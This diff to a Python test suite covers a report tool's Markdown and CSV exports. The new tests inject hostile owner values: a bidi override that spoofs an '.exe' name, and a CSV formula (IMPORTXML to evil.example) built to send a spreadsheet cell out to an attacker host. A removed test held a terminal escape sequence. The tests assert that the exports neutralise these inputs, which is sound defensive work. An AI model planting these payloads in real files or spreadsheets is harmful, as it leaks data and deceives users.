@@ -135,13 +135,15 @@ def test_markdown_report_matches_the_golden_file(
     assert capsys.readouterr().out == GOLDEN.read_text(encoding="utf-8")
 
 
-def test_markdown_escapes_text_and_strips_control_characters(
+def test_markdown_escapes_text_and_strips_bidi_overrides(
     sample_workspace: Path, tmp_path: Path
 ) -> None:
+    # Control characters never load (the model refuses them in one-line fields);
+    # bidi overrides do (with a W001 warning) and must not reorder the report.
     path = sample_workspace / "objectives" / "2026-Q4" / "email-ctr.toml"
     text = path.read_text(encoding="utf-8")
     path.write_text(
-        text.replace('owner = "Mina"', 'owner = "Mi|na \\u001b]0;pwned\\u0007"', 1),
+        text.replace('owner = "Mina"', 'owner = "Mi|na \\u202egnp.exe"', 1),
         encoding="utf-8",
     )
     result = subprocess.run(
@@ -150,8 +152,30 @@ def test_markdown_escapes_text_and_strips_control_characters(
         text=True,
     )
     assert result.returncode == 0, result.stderr
-    assert "\x1b" not in result.stdout and "\x07" not in result.stdout
-    assert "Mi\\|na" in result.stdout
+    assert "\u202e" not in result.stdout
+    assert "Mi\\|na gnp.exe" in result.stdout
+
+
+def test_csv_cells_never_run_as_spreadsheet_formulas(
+    sample_workspace: Path, tmp_path: Path
+) -> None:
+    path = sample_workspace / "objectives" / "2026-Q4" / "email-ctr.toml"
+    text = path.read_text(encoding="utf-8")
+    formula = '=IMPORTXML(CONCAT(\\"https://evil.example/?\\", A2), \\"//a\\")'
+    path.write_text(
+        text.replace('owner = "Mina"', f'owner = "{formula}"').replace(
+            'author = "Mina"', 'author = "+1 Mina"'
+        ),
+        encoding="utf-8",
+    )
+    out = tmp_path / "csv"
+    assert main(["export", str(sample_workspace), "--format", "csv", "-o", str(out)]) == 0
+    _, rows = _read(out / "key_results.csv")
+    owners = {r["owner"] for r in rows if r["objective_id"] == "email-ctr"}
+    assert owners == {"'" + formula.replace('\\"', '"')}
+    _, checkins = _read(out / "checkins.csv")
+    authors = {r["author"] for r in checkins if r["objective_id"] == "email-ctr"}
+    assert authors == {"'+1 Mina"}
 
 
 def test_unknown_cycle_is_one_line(
